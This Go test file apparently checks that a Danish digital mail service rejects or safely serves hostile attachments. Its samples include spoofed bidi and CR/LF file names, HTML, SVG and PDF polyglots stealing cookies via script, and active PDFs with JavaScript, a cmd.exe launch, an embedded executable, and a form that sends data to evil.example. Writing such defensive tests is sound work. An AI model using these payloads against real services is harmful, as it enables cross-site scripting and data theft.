package main

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/google/uuid"
)

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// documentLetter submits, as the documents' sender, a letter to Anna with one document.
func (w *world) documentLetter(messageID, filename, contentType string, content []byte, digitalOnly bool) reply {
	return w.api(w.keyDocs, http.MethodPost, "/v1/letters", mustJSON(map[string]any{"message_id": messageID, "recipient_cpr": w.anna.CPR,
		"subject": "Bilag", "text": "Se bilag.", "digital_only": digitalOnly,
		"documents": []map[string]string{{"filename": filename, "content_type": contentType, "content": b64(content)}}}))
}

func (w *world) written(ctx context.Context, messageIDs ...string) int {
	return w.count(ctx, `SELECT count(*) FROM letters WHERE sender_id = 'dokument' AND message_id = ANY($1)`, messageIDs)
}

func badFileNames(ctx context.Context, w *world) (string, string, string, bool) {
	names := map[string]string{"bidi": "Årsopgørelse\u202Efdp.exe", "crlf": "brev.pdf\r\nContent-Type: text/html", "10kB": strings.Repeat("a", 10_000) + ".pdf"}
	var got, ids []string
	held := true
	for _, k := range []string{"bidi", "crlf", "10kB"} {
		r := w.documentLetter("name-"+k, names[k], "application/pdf", handmadePDF("", ""), true)
		got = append(got, k+" "+r.String())
		ids = append(ids, "name-"+k)
		held = held && r.status == http.StatusUnprocessableEntity
	}
	n := w.written(ctx, ids...)
	return "digital-only letter with a document named with U+202E, with CR/LF, 10 kB long", strings.Join(got, ", "),
		fmt.Sprintf("letters written %d", n), held && n == 0
}

// polyglots: a document that is a page in disguise is refused, or handed out so that it can
// never run as a page of this site: an attachment, not HTML, in a sandbox.
func polyglots(ctx context.Context, w *world) (string, string, string, bool) {
	docs := []struct{ name, ctype, content string }{
		{"side.html", "text/html", "<html><body><script>alert(document.cookie)</script></body></html>"},
		{"billede.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>`},
		{"brev.pdf", "application/pdf", "%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF"},
	}
	var got []string
	held := true
	for i, d := range docs {
		r := w.documentLetter(fmt.Sprintf("poly-%d", i), d.name, d.ctype, []byte(d.content), true)
		if r.status == http.StatusUnprocessableEntity {
			got = append(got, d.name+" refused 422")
			continue
		}
		id, err := uuid.Parse(jsonField(r.body, "id"))
		if r.status != http.StatusCreated || err != nil {
			got, held = append(got, d.name+" "+r.String()), false
			continue
		}
		eventually(ctx, 30*time.Second, func() bool { _, ok := w.mailboxEntry(ctx, id); return ok })
		doc := w.page(w.annaSession, "/breve/"+id.String()+"/dokumenter/1")
		ct, cd, csp := doc.header.Get("Content-Type"), doc.header.Get("Content-Disposition"), doc.header.Get("Content-Security-Policy")
		safe := doc.status == 200 && strings.HasPrefix(cd, "attachment") && strings.Contains(csp, "sandbox") &&
			!strings.Contains(ct, "html") && !strings.Contains(ct, "svg") && doc.header.Get("X-Content-Type-Options") == "nosniff"
		got = append(got, fmt.Sprintf("%s accepted, served %d as %q, %q", d.name, doc.status, ct, strings.SplitN(cd, ";", 2)[0]))
		held = held && safe
	}
	return "digital-only letters with an HTML, an SVG and a PDF-HTML polyglot document", strings.Join(got, "; "), "none", held
}

// activePDFs are PDFs that act when opened: scripts, launches, forms that send, files inside.
func activePDFs() []struct {
	name string
	pdf  []byte
} {
	return []struct {
		name string
		pdf  []byte
	}{
		{"/JS", handmadePDF("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "")},
		{"/Java#53cript", handmadePDF("/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>", "")},
		{"/AA", handmadePDF("", "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")},
		{"/Launch", handmadePDF("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", "")},
		{"XFA", handmadePDF("/AcroForm << /Fields [] /XFA 4 0 R >>", "", pdfStream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>`))},
		{"/SubmitForm", handmadePDF("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>", "")},
		{"/EmbeddedFiles", handmadePDF("/Names << /EmbeddedFiles << /Names [(faktura.exe) 4 0 R] >> >>", "",
			"<< /Type /Filespec /F (faktura.exe) /EF << /F 5 0 R >> >>", pdfStream("MZ-not-really"))},
	}
}

func activePDFsRefused(digitalOnly bool) func(context.Context, *world) (string, string, string, bool) {
	return func(ctx context.Context, w *world) (string, string, string, bool) {
		var passed, ids []string
		list := activePDFs()
		for i, p := range list {
			id := fmt.Sprintf("pdf-%t-%d", digitalOnly, i)
			ids = append(ids, id)
			if r := w.documentLetter(id, "brev.pdf", "application/pdf", p.pdf, digitalOnly); r.status != http.StatusUnprocessableEntity {
				passed = append(passed, fmt.Sprintf("%s %s", p.name, r))
			}
		}
		got := fmt.Sprintf("422 for all %d", len(list))
		if len(passed) > 0 {
			got = fmt.Sprintf("422 for %d of %d; not: %s", len(list)-len(passed), len(list), strings.Join(passed, ", "))
		}
		kind := "a letter that may be printed"
		if digitalOnly {
			kind = "a digital-only letter"
		}
		n := w.written(ctx, ids...)
		// The control: the same PDF without the active part is taken.
		ctl := w.documentLetter(fmt.Sprintf("pdf-control-%t", digitalOnly), "brev.pdf", "application/pdf", handmadePDF("", ""), digitalOnly)
		return fmt.Sprintf("%s with a PDF holding /JS, /Java#53cript, /AA, /Launch, XFA, /SubmitForm, /EmbeddedFiles (control: a plain PDF, %s)", kind, ctl),
			got, fmt.Sprintf("letters written %d", n), len(passed) == 0 && n == 0 && ctl.status == http.StatusCreated
	}
}

func deeplyNestedPDF(ctx context.Context, w *world) (string, string, string, bool) {
	pdf := handmadePDF("/Nest "+strings.Repeat("[", 200)+strings.Repeat("]", 200)+" /Deep "+strings.Repeat("<< /A ", 200)+strings.Repeat(">> ", 200), "")
	r := w.documentLetter("nested", "brev.pdf", "application/pdf", pdf, false)
	n := w.written(ctx, "nested")
	return "a printable letter with a PDF whose catalog nests arrays and dictionaries 200 deep", r.String(),
		fmt.Sprintf("letters written %d", n), r.status == http.StatusUnprocessableEntity && n == 0
}

// statisticsLeaveLettersFlowing: anyone may ask for the statistics; fifty at once must not
// hold up a letter.
func statisticsLeaveLettersFlowing(ctx context.Context, w *world) (string, string, string, bool) {
	p, err := w.citizen(ctx, "Statistik Modtager")
	if err != nil {
		return "statistics", err.Error(), "", false
	}
	codes := make(chan int, 50)
	for range 50 {
		go func() { codes <- send(http.MethodGet, w.base+"/statistik", nil).status }()
	}
	start := time.Now()
	r := w.api(w.keyA, http.MethodPost, "/v1/letters", mustJSON(map[string]string{"message_id": "during-statistics", "recipient_cpr": p.CPR, "subject": "Hej", "text": "Hej."}))
	id, _ := uuid.Parse(jsonField(r.body, "id"))
	delivered := r.status == http.StatusCreated && eventually(ctx, 15*time.Second, func() bool { _, ok := w.mailboxEntry(ctx, id); return ok })
	took := time.Since(start)
	count := map[int]int{}
	for range 50 {
		count[<-codes]++
	}
	return "50 anonymous GET /statistik at once while a sender submits a letter",
		fmt.Sprintf("statistics %v; letter %s, in the mailbox after %s", count, r, took.Round(100*time.Millisecond)), "none",
		delivered && took < 15*time.Second
}
